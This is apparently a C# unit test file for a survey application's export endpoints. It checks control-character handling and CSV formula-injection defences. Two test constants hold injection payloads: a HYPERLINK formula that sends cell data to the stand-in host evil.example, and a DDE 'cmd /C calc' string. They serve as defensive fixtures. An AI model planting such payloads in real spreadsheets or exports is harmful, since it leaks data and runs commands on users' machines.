using System.Net.Http.Json;
using System.Net;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.Extensions.DependencyInjection;
using Survey.Domain.Surveys;
using Survey.Staff.Ranking;
using Survey.Store;
using Survey.UnitTests.Hosts;

namespace Survey.UnitTests.Staff.Ranking;

// Admins write the titles and labels that exports carry: no text they write can break an export or run in a spreadsheet.
public class ExportTextTests(EmbeddedHostFactory factory) : IClassFixture<EmbeddedHostFactory>
{
    private readonly HttpClient _client = factory.CreateClient();

    [Fact]
    public async Task Control_characters_stored_before_they_were_refused_do_not_break_any_export()
    {
        // Straight into the store, as a survey saved before the validator refused such text would be.
        var slug = $"ctl-{Guid.NewGuid():N}"[..16];
        var survey = TestSurveys.Open(slug) with
        {
            Title = "Trygg\u0001 i Kalix\u0000",
            Areas = [new("centrum", "Centrum\u000B"), new("tore", "Tö\u001Fre\uFFFE")],
            Genders = ["kvinna", "man", "annat\u0002"],
            MinimumCellSize = 1,
        };
        (await factory.Services.GetRequiredService<ISurveyStore>().CreateAsync(survey, CancellationToken.None)).Should().BeTrue();
        // Breakdowns show groups that have answers: one in each area, and one from the third gender.
        foreach (var answer in new object[] { new { area = "centrum" }, new { area = "tore" }, new { gender = "annat\u0002" } })
            (await _client.PostAsJsonAsync($"/api/v1/public/surveys/{slug}/responses", answer)).StatusCode.Should().Be(HttpStatusCode.Accepted);

        var response = await _client.GetAsync($"/api/v1/staff/surveys/{slug}/ranking?format=xlsx");

        response.StatusCode.Should().Be(HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
        using var stream = new MemoryStream(await response.Content.ReadAsByteArrayAsync());
        using var workbook = SpreadsheetDocument.Open(stream, false);
        new DocumentFormat.OpenXml.Validation.OpenXmlValidator().Validate(workbook)
            .Select(e => $"{e.Part?.Uri} {e.Path?.XPath}: {e.Description}").Should().BeEmpty();
        var texts = workbook.WorkbookPart!.WorksheetParts.SelectMany(p => p.Worksheet.Descendants<InlineString>()).Select(s => s.InnerText).ToList();
        texts.Should().Contain("Trygg\uFFFD i Kalix\uFFFD", "what XML cannot hold is replaced, the rest is kept");
        texts.Should().Contain("Tö\uFFFDre\uFFFD");
        texts.Should().Contain("Centrum\uFFFD");
        texts.Should().Contain("annat\uFFFD");

        foreach (var path in new[] { "?format=csv", "?format=csv&by=area&dialect=rfc4180", "?format=json", "", "?by=gender" })
            (await _client.GetAsync($"/api/v1/staff/surveys/{slug}/ranking{path}")).StatusCode.Should().Be(HttpStatusCode.OK, path);
        (await _client.GetAsync($"/api/v1/staff/surveys/{slug}")).StatusCode.Should().Be(HttpStatusCode.OK);
    }

    [Fact]
    public async Task A_population_source_with_a_control_character_is_refused_by_name()
    {
        var slug = await _client.CreateSurveyAsync("pop");

        var response = await _client.PutAsync($"/api/v1/staff/surveys/{slug}/population?source={Uri.EscapeDataString("SCB\u0007 2025")}",
            new StringContent("ageGroup;gender;population\n16-24;kvinna;900\n", Encoding.UTF8, "text/csv"));

        response.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        (await response.Content.ReadAsStringAsync()).Should().Contain("\"source\"").And.Contain("U+0007");
        (await _client.GetAsync($"/api/v1/staff/surveys/{slug}/population")).StatusCode.Should().Be(HttpStatusCode.NotFound, "nothing was saved");
    }

    private const string Title = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Klicka här\")";
    private const string Label = "@SUM(1+1)*cmd|' /C calc'!A0";

    [Theory]
    [InlineData("", ';')]
    [InlineData("&dialect=rfc4180", ',')]
    public async Task A_title_or_label_that_looks_like_a_formula_is_exported_as_text(string dialect, char separator)
    {
        var slug = $"inj-{Guid.NewGuid():N}"[..16];
        var body = System.Text.Json.JsonSerializer.SerializeToNode(
            TestSurveys.Request(slug, areas: [new("centrum", Label), new("tore", "+46 70 123"), new("sangis", "-Sangis")]))!.AsObject();
        body["title"] = Title;
        var created = await _client.PostAsJsonAsync("/api/v1/staff/surveys", body);
        created.StatusCode.Should().Be(HttpStatusCode.Created, await created.Content.ReadAsStringAsync());
        foreach (var area in new[] { "centrum", "tore", "sangis" })
            (await _client.PostAsJsonAsync($"/api/v1/public/surveys/{slug}/responses", new { concerns = new[] { "narkotika" }, area }))
                .StatusCode.Should().Be(HttpStatusCode.Accepted);

        var about = Encoding.UTF8.GetString(await _client.GetByteArrayAsync($"/api/v1/staff/surveys/{slug}/ranking?format=csv{dialect}"));
        var byArea = Encoding.UTF8.GetString(await _client.GetByteArrayAsync($"/api/v1/staff/surveys/{slug}/ranking?format=csv&by=area{dialect}"));

        // OWASP: a single quote in front, and the whole field quoted, so that no spreadsheet reads a formula.
        about.Should().Contain(separator + "\"'=HYPERLINK(");
        Cells(about, separator).Should().Contain("'" + Title).And.NotContain(Title);
        byArea.Should().Contain("\"'@SUM(");
        var cells = Cells(byArea, separator);
        cells.Should().Contain(["'" + Label, "'+46 70 123", "'-Sangis"]).And.NotContain([Label, "+46 70 123", "-Sangis"]);
    }

    [Theory]
    [InlineData(CsvDialect.Swedish, ';', "-0,05")]
    [InlineData(CsvDialect.Rfc4180, ',', "-0.05")]
    public void Every_text_cell_that_starts_like_a_formula_is_neutralised_and_numbers_stay_numbers(CsvDialect dialect, char separator, string negative)
    {
        string[] risky = ["=1+1", "+1", "-1", "@A1", "\tTab", "\rReturn", "=", "-"];
        string[] ordinary = ["Töre", "Kalix – centrum", "..", "a=b", " =1", "'quoted"];
        var table = new ReportTable("t", ["Text", "Andel"],
            [.. risky.Concat(ordinary).Select(text => (IReadOnlyList<ReportCell>)[ReportCell.Of(text), ReportCell.Share(-0.05)])]);

        var csv = Encoding.UTF8.GetString(CsvExport.Write(dialect, table)).TrimStart('\uFEFF');

        var rows = CsvText.Rows(csv, separator).Skip(1).ToList();
        rows.Select(r => r[0]).Should().Equal([.. risky.Select(text => "'" + text), .. ordinary]);
        rows.Should().OnlyContain(r => r[1] == negative, "a negative change is a number cell, not text");
        csv.Should().Contain(separator + negative + "\r\n", "a number is written as it is, unquoted");
        foreach (var text in risky) csv.Should().Contain("\"'" + text + "\"");
        csv.Should().Contain("\r\nTöre" + separator, "ordinary text is written as before");
    }

    private static List<string> Cells(string csv, char separator) => CsvText.Rows(csv.TrimStart('\uFEFF'), separator).SelectMany(r => r).ToList();

}
